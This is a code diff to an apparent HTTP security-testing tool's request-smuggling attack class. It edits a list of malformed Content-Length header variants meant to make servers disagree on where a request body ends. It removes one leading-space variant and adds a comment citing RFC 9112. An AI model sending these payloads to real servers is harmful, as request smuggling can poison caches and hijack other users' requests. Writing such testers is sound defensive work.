@@ -15,7 +15,8 @@ public final class Smuggling implements Attack {
     private static final int PER_SECOND = 20;
 
     /// Heads that give a length of 0 or chunks, somehow, with the hidden request behind what a lenient reader takes for
-    /// the body's end.
+    /// the body's end. A line that begins with a blank is no length: it belongs to the header before it (RFC 9112,
+    /// section 5.2).
     private static final List<String> LENGTHS = List.of(
             "Content-Length: 0\r\nContent-Length: 33",
             "Content-Length: 33\r\nContent-Length: 0",
@@ -27,7 +28,6 @@ public final class Smuggling implements Attack {
             "Content-Length: 33a",
             "Content-Length:",
             "Content-Length : 33",
-            " Content-Length: 33",
             "Content-Length: 99999999999999999999",
             "Content-Length: 0\n\tContent-Length: 33",
             "X: y\rContent-Length: 33",
